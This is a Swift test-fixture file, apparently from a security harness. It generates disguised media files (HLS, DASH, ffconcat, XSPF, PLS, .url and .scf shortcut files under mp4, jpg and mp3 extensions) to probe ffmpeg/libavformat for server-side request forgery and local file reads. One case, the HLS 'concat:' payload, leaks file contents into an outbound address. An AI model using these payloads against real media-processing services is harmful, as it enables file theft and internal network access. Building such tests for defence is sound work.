import Foundation

/// What names other media instead of being some. libavformat's own probing believes the content, so
/// that the extension protects nobody: each goes under several.
extension AttackShape {
    private static let film = ["mp4", "mkv", "mov", "jpg", "mp3", "ts", "m3u8"]
    private static let some = ["mp4", "jpg"]
    private static let xml = ("\n<!-- ", " -->\n")

    static let playlists: [AttackShape] = hls + markup + lines

    private static func hls(_ address: String) -> String {
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n\(address)\n"
            + "#EXT-X-ENDLIST"
    }

    private static let hls: [AttackShape] =
        texts("hls-http", as: film) { hls($0.http + ".ts") }
        + texts("hls-file", as: film) { hls("file://\($0.piece)") }
        + texts("hls-near", as: ["mp4", "ts"]) { _ in
            hls(AttackMaterial.near.joined(separator: "\n#EXTINF:1,\n"))
        }
        // What made the first of these famous: the secret becomes part of an address.
        + texts("hls-concat", as: ["mp4", "avi"]) { hls("concat:\($0.http)|file://\($0.text)") }
        + texts("hls-subfile", as: some) { hls("subfile,,start,0,end,64,,:\($0.piece)") }
        + texts("hls-crypto", as: some) { hls("crypto+\($0.http)") }
        + texts("hls-tcp", as: ["mp4", "mkv"]) { hls("tcp://\($0.host)") }
        + texts("hls-udp", as: ["mp4", "mkv"]) { hls("udp://\($0.host)?pkt_size=188") }
        + texts("hls-tls", as: ["mp4"]) { hls("tls://\($0.host)") }
        + texts("hls-rtmp", as: ["mp4", "flv"]) { hls("rtmp://\($0.host)/live/a") }
        + texts("hls-ftp", as: ["mp4"]) { hls("ftp://\($0.host)/a.ts") }
        + texts("hls-gopher", as: ["mp4"]) { hls("gopher://\($0.host)/1a") }
        + texts("hls-key", as: some) {
            "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"\($0.http)\"\n"
                + "#EXT-X-MAP:URI=\"file://\($0.piece)\"\n#EXTINF:1,\n\($0.piece)\n#EXT-X-ENDLIST"
        }
        + texts("hls-variants", as: some) {
            "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"\($0.http)\"\n"
                + "#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=1,URI=\"\($0.http)\"\n"
                + "#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\n\($0.http).m3u8"
        }
        + texts("hls-behind-a-mark", as: ["ts"]) { "\u{feff}" + hls($0.http) }
        + texts("hls-behind-lines", as: ["mp4"]) { "\n\n \t" + hls($0.http) }
        + [
            // Sync bytes and an ID3 tag in front: looks like sound, reads like a list.
            AttackShape("hls-behind-id3.mp3", .either) {
                bytes("ID3", [3, 0, 0, 0, 0, 0, 0], hls($0.http))
            },
            AttackShape("hls-as-utf16.m3u8", .refused) { material in
                bytes(
                    [0xff, 0xfe],
                    hls(material.http).utf16.reduce(into: Data()) {
                        $0.append($1.little)
                    })
            },
        ]

    private static let markup: [AttackShape] =
        texts("dash-http", as: ["mp4", "mpd", "mkv"], comment: xml) { dash($0.http) }
        + texts("dash-file", as: ["mp4", "jpg"], comment: xml) { dash("file://\($0.piece)") }
        + texts("dash-link", as: ["mp4"], comment: xml) {
            "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" "
                + "xmlns:xlink=\"http://www.w3.org/1999/xlink\"><Period xlink:href=\"\($0.http)\" "
                + "xlink:actuate=\"onLoad\"/></MPD>"
        }
        + texts("smooth", as: ["mp4", "ismv"], comment: xml) {
            "<SmoothStreamingMedia MajorVersion=\"2\" Duration=\"9\"><StreamIndex Type=\"video\" "
                + "Url=\"\($0.http)\"><c d=\"9\"/></StreamIndex></SmoothStreamingMedia>"
        }
        + texts("xspf", as: ["mp3", "xspf"], comment: xml) {
            "<playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>"
                + "\($0.http)</location></track></trackList></playlist>"
        }
        + texts("asx", as: ["wmv", "asx"], comment: xml) {
            "<asx version=\"3.0\"><entry><ref href=\"\($0.http)\"/></entry></asx>"
        }
        + texts("smil", as: ["mov", "smil"], comment: xml) {
            "<smil xmlns=\"http://www.w3.org/ns/SMIL\"><body><video src=\"\($0.http)\"/></body></smil>"
        }
        + texts("quicktime-link", as: ["mov", "qtl"], comment: xml) {
            "<?xml version=\"1.0\"?><?quicktime type=\"application/x-quicktime-media-link\"?>"
                + "<embed src=\"\($0.http)\" autoplay=\"true\"/>"
        }
        + texts("wpl", as: ["mp3"], comment: xml) {
            "<?wpl version=\"1.0\"?><smil><body><seq><media src=\"\($0.picture)\"/></seq></body></smil>"
        }
        + texts("feed", as: ["mp3"], comment: xml) {
            "<rss version=\"2.0\"><channel><item><enclosure url=\"\($0.http)\"/></item></channel></rss>"
        }

    private static func dash(_ base: String) -> String {
        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" "
            + "mediaPresentationDuration=\"PT1S\" profiles=\"urn:mpeg:dash:profile:isoff-main:2011\">"
            + "<Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" "
            + "bandwidth=\"1\"><BaseURL>\(base)</BaseURL><SegmentList><SegmentURL media=\"\(base)\"/>"
            + "</SegmentList></Representation></AdaptationSet></Period></MPD>"
    }

    private static let lines: [AttackShape] =
        texts("ffconcat", as: ["mp4", "mkv", "jpg", "ts"]) {
            "ffconcat version 1.0\nfile '\($0.piece)'\nfile '\($0.http)'"
        }
        + texts("ffconcat-near", as: ["mp4"]) { _ in
            "ffconcat version 1.0\n"
                + AttackMaterial.near.map { "file '\($0)'" }.joined(separator: "\n")
        }
        + texts("concat-list", as: some) { "file '\($0.piece)'\nfile 'tcp://\($0.host)'" }
        + texts("concat-protocol", as: some) { "concat:\($0.piece)|\($0.http)" }
        + texts("subfile-protocol", as: ["mp4"]) { "subfile,,start,0,end,0,,:\($0.piece)" }
        + texts("session", as: ["mp4", "sdp"], comment: ("\na=", "\n")) {
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\n"
                + "m=video \($0.port) RTP/AVP 96\na=rtpmap:96 H264/90000"
        }
        + texts("rtsp", as: ["mp4", "mov"]) { "RTSPtext\nrtsp://\($0.host)/a" }
        + texts("references", as: ["wmv", "asf"]) { "[Reference]\nRef1=\($0.http)?MSWMExt=.asf" }
        + texts("m3u", as: ["mp3", "m3u"]) { "\($0.http).mp3\n\($0.piece)" }
        + texts("pls", as: ["mp3", "pls"]) {
            "[playlist]\nNumberOfEntries=1\nFile1=\($0.http)\nVersion=2"
        }
        + texts("ram", as: ["mp3"]) { "pnm://\($0.host)/a.rm\nrtsp://\($0.host)/a.rm" }
        + texts("shortcut", as: ["jpg", "url"]) { "[InternetShortcut]\nURL=\($0.http)" }
        + texts("desktop", as: ["png"]) { "[Desktop Entry]\nType=Link\nURL=\($0.http)" }
        + texts("shell-command-file", as: ["jpg"]) {
            "[Shell]\nCommand=2\nIconFile=\\\\127.0.0.1@\($0.port)\\share\\a.ico"
        }
        // A pattern of names, and a picture by its whole path: what the demuxer image2 makes of it.
        + texts("pattern", as: ["jpg", "png"]) { "\($0.directory)/%03d.png\n\($0.picture)" }
}
